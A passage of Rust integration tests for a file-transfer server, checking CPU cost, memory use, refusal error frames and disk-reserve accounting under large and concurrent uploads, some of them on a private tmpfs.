    worker.write_all(&unhex(EMPTY)).unwrap();
    expect_ack(&mut worker, &ack_json(&[], 0));
}

/// CPU seconds (user + system) the process has used so far.
fn cpu_seconds(pid: u32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    // Fields after the command name (which may hold spaces) start at state (field 3).
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    let f: Vec<&str> = rest.split_whitespace().collect();
    let ticks: f64 = f[11].parse::<f64>().unwrap() + f[12].parse::<f64>().unwrap();
    // SAFETY: sysconf has no preconditions.
    ticks / unsafe { libc::sysconf(libc::_SC_CLK_TCK) } as f64
}

/// Issue 15 item 4: one request of 1,000 unknown names against 50,000 files costs
/// O(items x log catalog) (names by index), the item cap holds before the JSON is parsed, and
/// listing pages come from the snapshot's order (no sort per page).
#[test]
fn a_request_of_1000_unknown_names_against_50000_files_costs_little_cpu() {
    let dir = TempDir::new("tej-cost");
    for i in 0..50_000u32 {
        std::fs::write(dir.join(&format!("f{i:05}.dat")), i.to_le_bytes()).unwrap();
    }
    let s = serve(dir.path(), &["--idle-timeout", "60"]);
    let pid = s.child.id();
    let mut c = connect(&s);
    // The catalog is complete (the first page ends where it must).
    c.write_all(&frame(5, &[], b"{\"after\":\"f49990.dat\",\"limit\":100}"))
        .unwrap();
    let page = next_frame(&mut c).json();
    assert_eq!(page["files"].as_array().unwrap().len(), 9, "{page}");
    let unknown: Vec<String> = (0..1000).map(|i| format!("missing-{i:04}.dat")).collect();
    let req = json!({ "get": unknown }).to_string();
    let cpu0 = cpu_seconds(pid);
    for _ in 0..5 {
        c.write_all(&frame(4, &[], req.as_bytes())).unwrap();
        let j = assert_error(&next_frame(&mut c), "not-found");
        assert_eq!(j["missing"].as_array().unwrap().len(), 1000);
    }
    // 10,000 list entries a page, from the middle, five times.
    for _ in 0..5 {
        c.write_all(&frame(5, &[], b"{\"after\":\"f20000.dat\"}"))
            .unwrap();
        let page = next_frame(&mut c).json();
        assert_eq!(page["next"], "f30000.dat");
    }
    // Over the cap: refused while parsing, before what follows is read (here 4 MiB that are
    // not JSON at all: a parser that read on would report those instead).
    let mut over = String::from("{\"get\":[");
    for i in 0..10_001 {
        over.push_str(&format!("\"x{i}\","));
    }
    over.push_str(&"not json ".repeat(4 << 17));
    c.write_all(&frame(4, &[], over.as_bytes())).unwrap();
    let j = assert_error(&next_frame(&mut c), "bad-request");
    assert!(
        j["detail"]
            .as_str()
            .unwrap()
            .contains("more than 10000 items"),
        "{j}"
    );
    let used = cpu_seconds(pid) - cpu0;
    eprintln!("requests and pages on 50,000 files: {used:.2} CPU seconds of the server");
    // Loosely: before the indexes, the five requests alone cost minutes on this catalog.
    assert!(
        used < 5.0,
        "{used:.2} CPU seconds for the requests and pages"
    );
}

/// Issue 12: a deliver frame's message is never held, whatever its size: 16 connections each
/// sending the largest message keep the server's RssAnon small. Request messages are held
/// under one server-wide budget: past it, `busy`.
#[test]
fn the_largest_messages_on_many_connections_keep_the_server_small() {
    let dir = TempDir::new("tej-bigmsg");
    let s = serve(
        dir.path(),
        &["--max-connections", "64", "--max-per-ip", "64"],
    );
    let pid = s.child.id();
    let addr = s.addr("tej");
    let msg = vec![b'm'; 16 << 20];
    let sending: Vec<_> = (0..16)
        .map(|i| {
            let (addr, msg) = (addr.clone(), msg.clone());
            std::thread::spawn(move || {
                let mut c = connect_to(&addr);
                // Status 0 and an application status alike.
                let status = if i % 2 == 0 { 0 } else { 9 };
                c.write_all(&frame(status, &[], &msg)).unwrap();
                if status == 0 {
                    expect_ack(&mut c, &ack_json(&[], 16 << 20));
                }
            })
        })
        .collect();
    let mut max = 0;
    while !sending.iter().all(|h| h.is_finished()) {
        max = max.max(proc_kib(pid, "RssAnon"));
        std::thread::sleep(Duration::from_millis(10));
    }
    for h in sending {
        h.join().unwrap();
    }
    assert!(
        max < 64 * 1024,
        "RssAnon {max} KiB with 16 messages of 16 MiB"
    );
    // Requests of 16 MiB: at most the budget (64 MiB) is held; the rest are refused. Every
    // request's first bytes go out first, so all eight ask for the budget at once; only once
    // four were refused do the others send the rest.
    let mut body = b"{\"get\":[]}".to_vec();
    body.resize(16 << 20, b' ');
    let whole = frame(4, &[], &body);
    let (head, rest) = whole.split_at(100);
    let mut conns: Vec<TcpStream> = (0..8).map(|_| connect_to(&addr)).collect();
    for c in &mut conns {
        c.write_all(head).unwrap();
    }
    let (tx, rx) = mpsc::channel();
    for (i, c) in conns.iter().enumerate() {
        let (mut r, tx) = (c.try_clone().unwrap(), tx.clone());
        std::thread::spawn(move || {
            let f = next_frame(&mut r);
            let _ = tx.send((i, f.status, f.msg));
        });
    }
    let mut busy = Vec::new();
    let mut max = 0;
    while busy.len() < 4 {
        max = max.max(proc_kib(pid, "RssAnon"));
        let (i, status, msg) = rx.recv_timeout(T).expect("four refusals");
        let j: Value = serde_json::from_slice(&msg).unwrap();
        assert_eq!((status, j["error"].as_str()), (0x83, Some("busy")), "{j}");
        busy.push(i);
    }
    let senders: Vec<_> = (0..8)
        .filter(|i| !busy.contains(i))
        .map(|i| {
            let mut w = conns[i].try_clone().unwrap();
            let rest = rest.to_vec();
            std::thread::spawn(move || w.write_all(&rest).unwrap())
        })
        .collect();
    for _ in 0..4 {
        let (i, status, _) = rx.recv_timeout(T).expect("an answer");
        assert!(!busy.contains(&i));
        // Held whole and answered: an empty request gets an empty deliver frame.
        assert_eq!(status, 0x80);
        max = max.max(proc_kib(pid, "RssAnon"));
    }
    for h in senders {
        h.join().unwrap();
    }
    assert!(
        max < 128 * 1024,
        "RssAnon {max} KiB with 8 requests of 16 MiB"
    );
}

/// Issue 12: when the server refuses a file while the sender is still writing it, its error
/// frame is on the wire before the close, where a plain socket can read it.
#[test]
fn refusal_error_frames_reach_a_sender_that_is_still_writing() {
    let dir = TempDir::new("tej-refuse");
    let s = serve(
        dir.path(),
        &["--max-file-size", "5000000", "--frame-timeout", "10"],
    );
    let data = pseudo_random(1201, 4 << 20);
    let refusal = |head: Vec<u8>, s: &Server| {
        let mut c = connect(s);
        let mut w = c.try_clone().unwrap();
        let data = data.clone();
        let writer = std::thread::spawn(move || {
            // Errors are expected: the server stops reading once it has refused.
            let _ = w.write_all(&head).and_then(|()| w.write_all(&data));
        });
        let f = next_frame(&mut c);
        let _ = c.shutdown(Shutdown::Both);
        writer.join().unwrap();
        f
    };
    // too-large: a file over --max-file-size, its data already on the way.
    let f = refusal(file_header(b"big.bin", 5_000_001), &s);
    assert_error(&f, "too-large");
    // internal: the work folder is deleted (the server holds it open as a descriptor, and
    // nothing can be created in a deleted folder, root or not), so the temporary cannot be
    // made part-way; a file takes its name so that no path leads to a folder either.
    let ing = ingest_dir(dir.path());
    std::fs::remove_dir_all(&ing).unwrap();
    std::fs::write(&ing, b"not a folder").unwrap();
    let f = refusal(file_header(b"mid.bin", 600_000), &s);
    let j = assert_error(&f, "internal");
    assert!(j["detail"].is_string(), "{j}");
    drop(s);
    // no-space: a disk reserve no disk can keep.
    let dir = TempDir::new("tej-refuse2");
    let s = serve(dir.path(), &["--disk-reserve", "4611686018427387904"]);
    let f = refusal(file_header(b"x.bin", 4 << 20), &s);
    let j = assert_error(&f, "no-space");
    assert!(
        j["detail"].as_str().unwrap().contains("does not fit"),
        "{j}"
    );
    assert_no_temporaries(dir.path());
}

/// `ferry tej serve ARGS` with its folder on a private tmpfs of `size` (`unshare -m`, then
/// `mount -t tmpfs`; the test's own view of `dir` stays empty: see it through
/// [`tmpfs_view`]). Fails with a message when the tmpfs cannot be mounted.
fn serve_on_tmpfs(dir: &Path, size: &str, extra: &[&str]) -> Server {
    let script = format!(
        "mount -t tmpfs -o size={size} ferry-test \"$1\" || {{ echo 'tej test: cannot mount a tmpfs: run as root with unshare(1) and mount(8)' >&2; exit 1; }}; shift; exec \"$@\""
    );
    let d = dir.to_str().unwrap();
    let mut args = vec![
        "-m",
        "sh",
        "-c",
        &script,
        "sh",
        d,
        FERRY,
        "tej",
        "serve",
        "--bind",
        "127.0.0.1:0",
        "--root",
        d,
    ];
    args.extend_from_slice(extra);
    let s = Server::start_program("unshare", &args, 1);
    let view = tmpfs_view(&s, dir);
    assert_eq!(
        fs_type(&view),
        Some(0x0102_1994),
        "{view:?} is not the test's tmpfs"
    );
    s
}

/// `dir` as the server sees it (through its mount namespace).
fn tmpfs_view(s: &Server, dir: &Path) -> PathBuf {
    PathBuf::from(format!("/proc/{}/root{}", s.child.id(), dir.display()))
}

fn statvfs(path: &Path) -> libc::statvfs {
    use std::os::unix::ffi::OsStrExt;
    let c = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: statvfs is plain old data, written by the call on a NUL-terminated path.
    let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
    assert_eq!(unsafe { libc::statvfs(c.as_ptr(), &mut st) }, 0, "{path:?}");
    st
}

fn fs_type(path: &Path) -> Option<i64> {
    use std::os::unix::ffi::OsStrExt;
    let c = std::ffi::CString::new(path.as_os_str().as_bytes()).ok()?;
    // SAFETY: as for statvfs.
    let mut st: libc::statfs = unsafe { std::mem::zeroed() };
    if unsafe { libc::statfs(c.as_ptr(), &mut st) } != 0 {
        return None;
    }
    #[allow(clippy::unnecessary_cast)]
    Some(st.f_type as i64)
}

/// Bytes an unprivileged writer may still use at `path`.
fn free_bytes(path: &Path) -> u64 {
    let st = statvfs(path);
    #[allow(clippy::useless_conversion)]
    (u64::from(st.f_bavail) * u64::from(st.f_frsize))
}

/// Issue 15 item 5: four uploads declaring 8 MiB each at once on a 40 MiB tmpfs with a 16 MiB
/// reserve: reservations are accounted across uploads, so the ones that do not fit are refused
/// with `no-space` before their data, and the free space never drops below the reserve.
#[test]
fn four_concurrent_uploads_on_a_small_tmpfs_never_breach_the_disk_reserve() {
    const RESERVE: u64 = 16 << 20;
    let dir = TempDir::new("tej-tmpfs4");
    let s = serve_on_tmpfs(dir.path(), "40m", &["--disk-reserve", &RESERVE.to_string()]);
    let view = tmpfs_view(&s, dir.path());
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let sampler = {
        let (stop, view) = (stop.clone(), view.clone());
        std::thread::spawn(move || {
            let mut min = u64::MAX;
            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                min = min.min(free_bytes(&view));
                std::thread::sleep(Duration::from_millis(2));
            }
            min
        })
    };
    let data = pseudo_random(1501, 8 << 20);
    let mut conns: Vec<TcpStream> = (0..4).map(|_| connect(&s)).collect();
    // Every header (and 1 MiB) first, so all four are admitted or refused side by side.
    for (i, c) in conns.iter_mut().enumerate() {
        let mut head = file_header(format!("f{i}.bin").as_bytes(), data.len() as u64);
        head.extend_from_slice(&data[..1 << 20]);
        c.write_all(&head).unwrap();
    }
    let writers: Vec<_> = conns
        .iter()
        .map(|c| {
            let mut w = c.try_clone().unwrap();
            let rest = data[1 << 20..].to_vec();
            std::thread::spawn(move || {
                let _ = w
                    .write_all(&rest)
                    .and_then(|()| w.write_all(&0u64.to_be_bytes()));
            })
        })
        .collect();
    let mut stored = 0;
    let mut refused = 0;
    for c in &mut conns {
        let f = next_frame(c);
        match f.custom() {
            1 => stored += 1,
            _ => {
                let j = assert_error(&f, "no-space");
                assert!(j["detail"].as_str().unwrap().contains("8388608"), "{j}");
                refused += 1;
            }
        }
    }
    for w in writers {
        w.join().unwrap();
    }
    stop.store(true, std::sync::atomic::Ordering::SeqCst);
    let min_free = sampler.join().unwrap();
    assert!(
        refused >= 1 && stored >= 1,
        "stored {stored}, refused {refused}"
    );
    assert!(
        min_free >= RESERVE,
        "free space fell to {min_free} bytes, under the reserve of {RESERVE}"
    );
    // What was stored is whole, and no temporary is left.
    let stored_files = std::fs::read_dir(&view)
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().ends_with(".bin"))
        .count();
    assert_eq!(stored_files, stored);
    assert!(wait_for(Duration::from_secs(5), || std::fs::read_dir(
        view.join(".ferry/ingest/tej")
    )
    .map(|r| r.count() == 0)
    .unwrap_or(false)));
}

/// Issue 15 item 5: an upload that declares a large size and trickles holds one step of space
/// (64 MiB), not its declared size: on a 200 MiB tmpfs a 150 MiB claim still leaves room for a
/// 100 MiB upload beside it.
#[test]
fn a_trickling_upload_does_not_hold_its_declared_size() {
    let dir = TempDir::new("tej-trickle");
    let s = serve_on_tmpfs(dir.path(), "200m", &["--disk-reserve", "16777216"]);
    let mut trickler = connect(&s);
    let mut head = file_header(b"claim.bin", 150 << 20);
    head.extend_from_slice(&pseudo_random(1503, 1 << 20));
    trickler.write_all(&head).unwrap();
    let data = pseudo_random(1505, 100 << 20);
    let mut c = connect(&s);
    c.write_all(&frame(0, &[(b"beside.bin", &data)], b""))
        .unwrap();
    let f = next_frame(&mut c);
    assert_eq!(
        f.custom(),
        1,
        "the 100 MiB upload was refused: {}",
        String::from_utf8_lossy(&f.msg)
    );
    assert_eq!(f.json()["files"][0]["sha256"], sha(&data));
    // The trickler's connection is still open and its file still arriving.
    trickler.write_all(&[0; 4096]).unwrap();
    assert_silent(&mut trickler, Duration::from_millis(200));
}

/// Issue 15 items 5 and 12: on a disk with fallocate the declared size is not preallocated at
/// once (one step, 64 MiB, ahead of the data), and one peer address holds at most
/// --max-peer-reserve over all its uploads while another address is not held back.
#[test]
fn space_is_taken_a_step_at_a_time_and_one_peer_holds_at_most_its_cap() {
    let dir = TempDir::new("tej-steps");
    let s = serve(dir.path(), &["--max-peer-reserve", "100000000"]);
    let addr = s.addr("tej");
    let mut a = connect_from([127, 0, 0, 1], &addr);
    let mut head = file_header(b"a.bin", 1 << 30);
    head.extend_from_slice(&pseudo_random(1507, 1 << 20));
    a.write_all(&head).unwrap();
    wait_for_temporary(dir.path(), 1 << 20);
    let t = temporaries(dir.path());
    assert_eq!(t.len(), 1, "{t:?}");
    assert!(
        t[0].2 <= (64 << 20) + (2 << 20),
        "{} bytes allocated for a 1 GiB claim with 1 MiB received",
        t[0].2
    );
    // Same address, a second claim: its first step would take it past 100 MB.
    let mut b = connect_from([127, 0, 0, 1], &addr);
    b.write_all(&file_header(b"b.bin", 1 << 30)).unwrap();
    let j = expect_error_and_close(&mut b, "no-space");
    assert!(j["detail"].as_str().unwrap().contains("this peer"), "{j}");
    // Another address is not held back by the first one's cap.
    let mut c = connect_from([127, 0, 0, 2], &addr);
    let data = pseudo_random(1509, 3 << 20);
    c.write_all(&frame(0, &[(b"c.bin", &data)], b"")).unwrap();
    expect_ack(&mut c, &ack_json(&[("c.bin", &data, Some("c.bin"))], 0));
    drop(a);
    assert_temporaries_go(dir.path());
}

/// Issue 15 item 5 and issue 16: a file that runs out of space part-way (its next step no
/// longer fits) gets `no-space` with the error frame readable by the sender, and its temporary,
/// already on disk, is removed.
#[test]
fn t20_t21_no_space_in_the_middle_of_a_file_removes_its_temporary() {
    let dir = TempDir::new("tej-midspace");
    let s = serve_on_tmpfs(dir.path(), "100m", &["--disk-reserve", "16777216"]);
    let view = tmpfs_view(&s, dir.path());
    let data = pseudo_random(2001, 80 << 20);
    let mut c = connect(&s);
    let mut w = c.try_clone().unwrap();
    let head = file_header(b"big.bin", data.len() as u64);
    w.write_all(&head).unwrap();
    w.write_all(&data[..1 << 20]).unwrap();
    // The file is admitted (80 MiB fit) and its temporary is on the tmpfs; then someone else
    // fills 20 MiB of it, so the step after the first 64 MiB no longer fits.
    let ing = view.join(".ferry/ingest/tej");
    assert!(wait_for(Duration::from_secs(20), || std::fs::read_dir(
        &ing
    )
    .map(|r| r.count() == 1)
    .unwrap_or(false)));
    std::fs::write(view.join("filler.dat"), vec![0u8; 20 << 20]).unwrap();
    let writer = std::thread::spawn(move || {
        let _ = w.write_all(&data[1 << 20..]);
    });
    let j = expect_error_and_close(&mut c, "no-space");
    assert!(j["detail"].is_string(), "{j}");
    writer.join().unwrap();
    assert!(
        wait_for(Duration::from_secs(10), || std::fs::read_dir(&ing)
            .map(|r| r.count() == 0)
            .unwrap_or(false)),
        "the temporary of the refused file is still there"
    );
    assert!(!view.join("big.bin").exists());
    assert!(free_bytes(&view) >= 16 << 20);
}
